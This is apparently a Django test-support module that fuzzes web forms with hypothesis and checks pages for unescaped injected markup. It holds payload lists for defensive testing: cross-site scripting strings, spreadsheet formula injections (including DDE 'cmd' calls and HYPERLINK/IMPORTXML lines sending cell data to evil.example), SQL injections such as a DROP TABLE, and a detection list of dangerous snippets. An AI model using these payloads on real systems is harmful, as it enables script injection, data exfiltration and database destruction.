"""Shared hypothesis strategies and checks for fuzzing every form a person can submit.

`FUZZ_EXAMPLES` (environment, default 200; in CI, i.e. with `CI` set, never fewer) sets the
number of examples per form; `fuzz_settings()` is the one place the hypothesis settings come
from. Examples run inside `isolated_example()`: a savepoint that is always rolled back and an
empty cache (rate limits), so every example sees the same database whatever the previous one
stored.
"""

from __future__ import annotations

import os
import re
from contextlib import contextmanager
from html.parser import HTMLParser

from django.core import mail
from django.core.cache import cache
from django.db import transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

MIN_EXAMPLES_IN_CI = 200
FUZZ_EXAMPLES = max(
    int(os.environ.get("FUZZ_EXAMPLES", MIN_EXAMPLES_IN_CI)),
    MIN_EXAMPLES_IN_CI if os.environ.get("CI") else 1,
)


def fuzz_settings(max_examples: int = FUZZ_EXAMPLES) -> settings:
    """No example database (CI starts clean), no deadline (the first request warms templates);
    a failure prints the blob/seed to reproduce it.

    In CI the examples are derandomised, so a red run is not down to luck and can be re-run;
    `FUZZ_RANDOM=1` (or any run outside CI) explores fresh examples each time.
    """
    return settings(
        max_examples=max_examples,
        derandomize=bool(os.environ.get("CI")) and not os.environ.get("FUZZ_RANDOM"),
        deadline=None,
        database=None,
        print_blob=True,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.filter_too_much,
        ],
    )


# --- Payloads ----------------------------------------------------------------------------------

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<style>@import "//evil.example/x.css";</style>',
    "<!--",
    "]]><x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ request.user.password }}",
    "{% debug %}",
    "${7*7}",
]
CSV_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
]
SQL_PAYLOADS = [
    "' OR '1'='1",
    "'; DROP TABLE accounts_user; --",
    '" OR ""="',
    "1; SELECT pg_sleep(5)",
    "%",
    "_",
    "\\",
    "%s%s%n",
    "%(name)s",
    "{name}",
    "{0}",
]
UNICODE_PAYLOADS = [
    "\x00",
    "a\x00b",
    "Jana\x00",
    "\u202eevil\u202c",  # right-to-left override
    "\u200f\u200e",  # RTL / LTR marks
    "\ufeff",
    "\u200b",
    "😀👩‍👩‍👧",
    "ẞß",
    "İı",
    "e\u0301",  # combining accent
    "\uff1cscript\uff1e",  # full-width < >
    "\u2028\u2029",
    "\x1b[31m",
    "\x7f\x85",
    "نور",
    "漢字",
]
WHITESPACE = " \t\n\r\x0b\x0c\u00a0\u1680\u2003\u2028\u3000"
ALL_PAYLOADS = HTML_PAYLOADS + CSV_PAYLOADS + SQL_PAYLOADS + UNICODE_PAYLOADS

# Anything Django can encode: no surrogates (they cannot be UTF-8); NUL and controls included.
any_char = st.characters(exclude_categories=("Cs",))
unicode_text = st.text(alphabet=any_char, max_size=60)
payloads = st.sampled_from(ALL_PAYLOADS)
whitespace_only = st.text(alphabet=st.sampled_from(WHITESPACE), min_size=1, max_size=20)


def long_strings(min_length: int = 10_000, max_length: int = 12_000) -> st.SearchStrategy[str]:
    """Very long strings, built by repetition (generating 10k random characters is slow)."""
    return st.builds(
        lambda unit, length: (unit * (length // len(unit) + 1))[:length],
        st.one_of(payloads, st.text(alphabet=any_char, min_size=1, max_size=8)),
        st.integers(min_length, max_length),
    )


mixed = st.lists(st.one_of(payloads, unicode_text), min_size=1, max_size=4).map("".join)


def fuzz_text(*plausible: str) -> st.SearchStrategy[str]:
    """The mix for one text field; `plausible` values make some examples pass validation."""
    options = [
        payloads,
        unicode_text,
        mixed,
        long_strings(),
        whitespace_only,
        st.just(""),
    ]
    if plausible:
        plausible_values = st.sampled_from(plausible)
        options.append(plausible_values)
        # A plausible value with a payload around it (e.g. a name followed by markup).
        options.append(st.tuples(plausible_values, st.one_of(payloads, unicode_text)).map("".join))
    # Mapped, so that `st.one_of(valid_value, fuzz_text())` picks each side half the time
    # (hypothesis flattens nested one_of() into one list of equally likely branches).
    return st.one_of(options).map(str)


def formula_emails() -> st.SearchStrategy[str]:
    """Syntactically valid addresses that start like a spreadsheet formula, or are very long."""
    local = st.one_of(
        st.sampled_from(["=1+1", "+cmd", "-1+1", "=cmd|'/Ccalc'!A0", "+49-170", "-x"]),
        st.from_regex(r"\A[=+\-][a-z0-9=+\-!#$%&'*/?^_`{|}~]{0,20}\Z"),
    )
    long_domain = st.integers(1, 4).map(lambda n: ".".join(["d" * 63] * n) + ".de")
    domain = st.one_of(st.sampled_from(["example.org", "träger.example"]), long_domain)
    return st.builds(lambda a, b: f"{a}@{b}", local, domain)


# --- Checks ------------------------------------------------------------------------------------

DANGEROUS_SNIPPETS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">',
    "<iframe srcdoc=",
    '<style>@import "//evil.example',
    "</textarea><script>",
    "</title><script>",
]


class _MarkupScanner(HTMLParser):
    """Collects what an injection would leave in the DOM: event handlers, script bodies, URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "style"}:
            self._in_script = True
        if tag in {"iframe", "svg"} and any("alert" in (v or "") for _n, v in attrs):
            self.findings.append(f"<{tag}> with alert")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and "alert(" in value:
                self.findings.append(f"{tag}[{name}]={value[:80]}")
            is_url = name in {"href", "src", "action", "formaction"}
            if is_url and value.strip().lower().startswith("javascript:"):
                self.findings.append(f"{tag}[{name}]={value[:80]}")

    def handle_endtag(self, tag):
        if tag in {"script", "style"}:
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and ("alert(" in data or "evil.example" in data):
            self.findings.append(f"script/style body: {data[:80]}")


def assert_no_injected_markup(page: str, *submitted: str) -> None:
    """No submitted value appears as live markup in `page` (HTML of a response or a render).

    Three checks: the known dangerous snippets never appear verbatim; a parse of the page finds
    no event handler, script body or javascript: URL carrying a payload; and a submitted value
    that looks like markup (a "<" before a letter, "!" or "/") never appears unescaped.
    """
    submitted = tuple(
        str(item)
        for value in submitted
        for item in (value if isinstance(value, (list, tuple)) else [value])
        if item is not None
    )
    for snippet in DANGEROUS_SNIPPETS:
        if any(snippet in value for value in submitted):
            assert snippet not in page, f"unescaped markup in the page: {snippet!r}"
    scanner = _MarkupScanner()
    scanner.feed(page)
    scanner.close()
    assert not scanner.findings, f"injected markup in the page: {scanner.findings[:5]}"
    for value in submitted:
        for candidate in {value, value.strip()}:
            if len(candidate) >= 8 and re.search(r"<[A-Za-z!/]", candidate):
                assert candidate not in page, f"value appears unescaped: {candidate[:120]!r}"


@contextmanager
def isolated_example():
    """One example: empty cache (rate limits), empty outbox, and a savepoint rolled back after."""
    cache.clear()
    mail.outbox = []
    with transaction.atomic():
        try:
            yield
        finally:
            transaction.set_rollback(True)
